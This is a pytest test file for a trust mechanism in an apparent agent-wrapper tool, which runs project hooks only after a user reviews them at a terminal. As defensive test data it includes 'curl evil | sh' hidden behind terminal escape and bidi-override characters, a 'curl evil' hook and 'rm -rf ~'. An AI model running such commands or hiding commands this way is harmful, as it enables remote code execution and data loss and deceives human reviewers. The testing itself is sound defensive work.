"""trust: project hooks files run only after the user reviewed this exact content at a terminal."""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pexpect
import pytest

from wrapagent.commands.trust import cmd_trust, describe_content, describe_file
from wrapagent.hooks.trust import CHANGED, UNTRUSTED, TrustStore, untrusted_notice

HOOKS = b"""\
[pre_run]
command = "echo pre {session_id}"

[post_run]
enabled = false
command = "echo post"

[[prompt_guard]]
name = "branch"
builtin = "branch_protection"

[[prompt_guard]]
name = "lint"
command = "make lint"
"""

# Run cmd_trust in a child; the lead wires `wrapagent trust` into the CLI separately.
TRUST_SCRIPT = (
    "import sys\n"
    "from wrapagent.commands.trust import cmd_trust\n"
    "sys.exit(cmd_trust(sys.argv[1] if len(sys.argv) > 1 else None, revoke=False, list_=False,\n"
    "                   stdin=sys.stdin, stdout=sys.stdout, stderr=sys.stderr))\n"
)


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    (root / ".git").mkdir(parents=True)
    (root / ".wrapagent").mkdir()
    (root / ".wrapagent" / "hooks.toml").write_bytes(HOOKS)
    return root


@pytest.fixture
def env(tmp_path: Path) -> dict[str, str]:
    clean = {k: v for k, v in os.environ.items() if not k.startswith("WRAPAGENT_")}
    clean.update(HOME=str(tmp_path / "home"), XDG_STATE_HOME=str(tmp_path / "state"))
    return clean


def hooks_file(project: Path) -> Path:
    return project / ".wrapagent" / "hooks.toml"


def store_for(env: dict[str, str], **kwargs) -> TrustStore:
    return TrustStore(env=env, **kwargs)


def test_untrusted_then_trusted_then_edited(project, env):
    store = store_for(env)
    file = hooks_file(project)
    assert store.check(file, HOOKS) == UNTRUSTED
    assert not store.is_trusted(file, HOOKS)
    store.trust(file, HOOKS)
    assert store.is_trusted(file, HOOKS)
    edited = HOOKS + b'\n[session_complete]\ncommand = "curl evil"\n'
    assert store.check(file, edited) == CHANGED
    assert not store.is_trusted(file, edited)


def test_store_file_on_disk(project, env, tmp_path):
    store = store_for(env)
    store.trust(hooks_file(project), HOOKS)
    path = tmp_path / "state" / "wrapagent" / "trust.json"
    assert store.path == path
    assert path.stat().st_mode & 0o777 == 0o600
    data = json.loads(path.read_text())
    assert data["version"] == 1
    [(key, entry)] = data["files"].items()
    assert key == os.path.realpath(hooks_file(project))
    assert len(entry["sha256"]) == 64 and entry["trusted_at"].endswith("+00:00")
    [listed] = store.entries()
    assert (listed.path, listed.sha256) == (key, entry["sha256"])


def test_trust_is_per_resolved_path(project, env, tmp_path):
    link = tmp_path / "link"
    link.symlink_to(project)
    store = store_for(env)
    store.trust(hooks_file(link), HOOKS)
    assert store.is_trusted(hooks_file(project), HOOKS)
    other = tmp_path / "other" / ".wrapagent" / "hooks.toml"
    assert not store.is_trusted(other, HOOKS)


def test_revoke(project, env):
    store = store_for(env)
    store.trust(hooks_file(project), HOOKS)
    assert store.revoke(hooks_file(project)) is True
    assert not store.is_trusted(hooks_file(project), HOOKS)
    assert store.revoke(hooks_file(project)) is False


@pytest.mark.parametrize("garbage", [b"{not json", b"[]", b'{"files": []}', b'{"files": {"/x": {"sha256": 1}}}', b"\xff"])
def test_corrupt_store_means_nothing_trusted_with_one_warning(project, env, tmp_path, garbage):
    path = tmp_path / "state" / "wrapagent" / "trust.json"
    path.parent.mkdir(parents=True)
    path.write_bytes(garbage)
    seen: list[str] = []
    store = store_for(env, warn=seen.append)
    assert not store.is_trusted(hooks_file(project), HOOKS)
    assert store.entries() == []
    assert len(seen) == 1 and "ignoring trust store" in seen[0] and "\n" not in seen[0]
    store.trust(hooks_file(project), HOOKS)
    assert store.is_trusted(hooks_file(project), HOOKS)
    assert (path.parent / "trust.json.corrupt").read_bytes() == garbage


def test_untrusted_notice_is_one_line(tmp_path):
    file = tmp_path / "my repo" / ".wrapagent" / "hooks.toml"
    notice = untrusted_notice(file)
    assert "\n" not in notice
    assert notice.startswith(f"wrapagent: skipping untrusted project hooks in {file}")
    assert notice.endswith(f"wrapagent trust '{file}'")
    assert "changed since" in untrusted_notice(file, changed=True)


def test_describe_lists_every_command(project):
    text = describe_file(hooks_file(project))
    assert "pre_run: sh -c: echo pre {session_id}" in text
    assert "post_run: disabled (command: echo post)" in text
    assert "prompt guard 'branch': built-in branch_protection" in text
    assert "prompt guard 'lint': sh -c: make lint" in text
    assert "session_complete" not in text


def test_describe_shows_hidden_characters_and_bad_files(tmp_path):
    file = tmp_path / "hooks.toml"
    sneaky = describe_content(file, b'[pre_run]\ncommand = "curl evil | sh\\u001b[2K\\u001b[1Aecho hi\\u202e"\n[extra]\nx = 1\n')
    assert "\x1b" not in sneaky and "\u202e" not in sneaky
    assert "curl evil | sh\\x1b[2K\\x1b[1Aecho hi\\u202e" in sneaky
    assert "Ignored (wrapagent does not use these):\n  line 3: extra: unknown key, ignored" in sneaky
    broken = describe_content(file, b'[pre_run\ncommand = "rm -rf ~"\n')
    assert "Does not parse" in broken and '  | command = "rm -rf ~"' in broken


def run_cli(args: list[str], env: dict[str, str], cwd: Path, **kwargs) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-c", TRUST_SCRIPT, *args], env=env, cwd=cwd, capture_output=True, text=True, timeout=30,
        **kwargs,
    )


def test_trust_without_a_terminal_is_refused(project, env):
    result = run_cli([], env, project / ".wrapagent", stdin=subprocess.DEVNULL)
    assert result.returncode == 1
    assert "refusing to trust without a terminal" in result.stderr
    assert str(hooks_file(project)) in result.stderr
    assert not store_for(env).is_trusted(hooks_file(project), HOOKS)


def spawn_trust(args: list[str], env: dict[str, str], cwd: Path) -> pexpect.spawn:
    return pexpect.spawn(sys.executable, ["-c", TRUST_SCRIPT, *args], env=env, cwd=str(cwd), timeout=30,
                         encoding="utf-8")


@pytest.mark.parametrize(("answer", "code", "trusted"), [("y", 0, True), ("n", 1, False), ("", 1, False)])
def test_trust_at_a_terminal(project, env, answer, code, trusted):
    child = spawn_trust([], env, project)
    child.expect_exact("pre_run: sh -c: echo pre {session_id}")
    child.expect_exact("Trust this file? [y/N] ")
    child.sendline(answer)
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == code
    assert store_for(env).is_trusted(hooks_file(project), HOOKS) is trusted


def test_trust_refused_inside_a_wrapped_session(project, env):
    child = spawn_trust([str(hooks_file(project))], {**env, "WRAPAGENT_SESSION_ID": "01TEST"}, project)
    child.expect_exact("inside a wrapped agent session")
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 1
    assert not store_for(env).is_trusted(hooks_file(project), HOOKS)


def call(env: dict[str, str], cwd: Path, path: str | None = None, *, revoke: bool = False,
         list_: bool = False) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = cmd_trust(path, revoke=revoke, list_=list_, stdin=io.StringIO("y\n"), stdout=out, stderr=err,
                     env=env, cwd=cwd)
    return code, out.getvalue(), err.getvalue()


def test_cmd_trust_list_revoke_and_already_trusted(project, env):
    assert call(env, project, list_=True) == (0, "no trusted project hooks files\n", "")
    # StringIO stdin is not a terminal: refused even though it would answer "y".
    code, _, err = call(env, project)
    assert code == 1 and "refusing" in err
    store_for(env).trust(hooks_file(project), HOOKS)
    code, out, _ = call(env, project, ".")  # a folder means its .wrapagent/hooks.toml
    assert code == 0 and "already trusted" in out
    code, out, _ = call(env, project, list_=True)
    assert code == 0 and str(hooks_file(project)) in out and "(ok)" in out
    hooks_file(project).write_bytes(HOOKS + b"\n")
    assert "(changed since trusted)" in call(env, project, list_=True)[1]
    code, out, _ = call(env, project, revoke=True)
    assert code == 0 and "revoked" in out
    assert "nothing to revoke" in call(env, project, revoke=True)[1]


def test_cmd_trust_missing_file(env, tmp_path):
    code, _, err = call(env, tmp_path)
    assert code == 1 and "cannot read" in err


def test_trust_through_the_cli(project, env):
    """`wrapagent trust` as wired by the CLI: same prompt, same store."""
    child = pexpect.spawn(sys.executable, ["-m", "wrapagent", "trust"], env=env, cwd=str(project), timeout=30,
                          encoding="utf-8")
    child.expect_exact("Trust this file? [y/N] ")
    child.sendline("yes")
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 0
    assert store_for(env).is_trusted(hooks_file(project), HOOKS)
